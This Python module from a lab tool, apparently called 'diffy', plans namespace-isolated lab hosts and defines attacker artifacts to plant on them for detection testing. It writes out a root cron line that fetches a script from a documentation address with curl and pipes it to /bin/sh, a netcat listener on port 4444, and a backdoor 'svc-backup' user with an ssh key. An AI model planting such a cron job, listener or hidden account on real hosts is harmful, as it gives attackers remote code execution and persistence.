"""What a lab is made of: hosts, their apps and addresses, and the attacker artifacts we can inject."""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass, field

# Real attacker artifacts `inject` can plant on a running lab host, with what each one does (shown by
# `diffy lab --help`).  Not fleetgen.ARTIFACTS, the synthetic generator's evidence kinds.
INJECTIONS: dict[str, str] = {
    "listener": "a process listening on tcp/4444 (nc, or a Python socket listener without nc)",
    "cron": "a cron entry in the host's /etc/crontab fetching and running a script",
    "user": "a new login user 'svc-backup' (passwd, group, shadow) with an ssh authorized key",
}
LISTENER_PORT = 4444
APP_PORT = 8080
ATTACKER_USER = "svc-backup"
# TEST-NET-3 (RFC 5737): documentation addresses, never routed anywhere. Cron does not run in the lab.
CRON_LINE = "*/7 * * * * root /usr/bin/curl -fsS http://203.0.113.66/u.sh | /bin/sh >/dev/null 2>&1\n"


@dataclass
class LabHost:
    """One lab host: its names, address, namespace, process and injected artifacts."""

    name: str
    app: str
    index: int
    address: str
    netns: str
    instance_id: str | None = None
    pid: int | None = None
    """PID (in the root namespace) of the `unshare` process holding the host's namespaces."""
    artifacts: list[str] = field(default_factory=list)
    extra_pids: list[int] = field(default_factory=list)
    """Helper processes started for injected artifacts (nsenter), besides what the namespaces hold."""
    isolation: str = "bind"
    """"bind" (per-host /etc, /root, /home, /tmp, /var/tmp, /run over the shared root) or "overlay"
    (the whole root is a per-host overlay too: see lab/rootfs.py)."""

    def to_json(self) -> dict:
        return dict(self.__dict__)

    @classmethod
    def from_json(cls, doc: dict) -> LabHost:
        return cls(**doc)


def parse_apps(text: str) -> list[tuple[str, int]]:
    """``"app_x=6,app_y=2"`` -> ``[("app_x", 6), ("app_y", 2)]``."""
    apps = []
    for part in filter(None, (p.strip() for p in text.split(","))):
        name, _, count = part.partition("=")
        if not name or not count.isdigit() or int(count) < 1:
            raise ValueError(f"bad app spec {part!r}: expected NAME=COUNT, e.g. app_x=6")
        apps.append((name, int(count)))
    if not apps:
        raise ValueError("no apps given")
    return apps


def plan_hosts(name: str, apps: list[tuple[str, int]], subnet: str) -> list[LabHost]:
    """Names and addresses for every host: ``app-x-01`` ... in ``subnet`` from .11 up."""
    net = ipaddress.ip_network(subnet)
    hosts: list[LabHost] = []
    for app, count in apps:
        for n in range(1, count + 1):
            index = len(hosts)
            address = str(net.network_address + 11 + index)
            if ipaddress.ip_address(address) not in net or index > 200:
                raise ValueError(f"too many hosts for {subnet}")
            hosts.append(
                LabHost(
                    name=f"{app.replace('_', '-')}-{n:02d}",
                    app=app,
                    index=index,
                    address=address,
                    netns=f"{name}-h{index}",
                )
            )
    return hosts


def gateway(subnet: str) -> str:
    """The lab namespace's own address on the bridge (the controller's source address)."""
    net = ipaddress.ip_network(subnet)
    return f"{net.network_address + 1}/{net.prefixlen}"
